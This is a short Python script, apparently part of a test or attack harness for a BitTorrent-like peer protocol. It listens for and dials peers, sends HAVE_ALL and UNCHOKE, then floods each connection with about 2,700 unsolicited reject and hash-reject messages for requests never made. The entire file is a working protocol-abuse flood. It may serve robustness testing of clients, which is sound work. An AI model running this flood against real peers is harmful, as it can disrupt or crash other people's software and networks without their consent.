"""One host floods with rejects of requests, and of hash requests, that were never made."""

import struct
import threading

from attacker import BLOCK, HASH_REJECT, HAVE_ALL, REJECT, UNCHOKE, Attacker, Link, message, request

attacker = Attacker()
blocks = b"".join(request(number % attacker.pieces, 0, BLOCK, REJECT) for number in range(2000))
hashes = message(HASH_REJECT, attacker.root + struct.pack(">IIII", 4, 0, 32, 0)) * 700


def read(link: Link) -> None:
    try:
        while link.socket.recv(1 << 16):
            pass
    except OSError:
        pass


def behave(link: Link) -> None:
    link.greet()
    link.socket.sendall(message(HAVE_ALL) + message(UNCHOKE))
    threading.Thread(target=read, args=(link,), daemon=True).start()
    link.flood(lambda: blocks + hashes, "times 2,700 rejects")


attacker.listen(behave)
attacker.dial(behave, 3)
attacker.live()
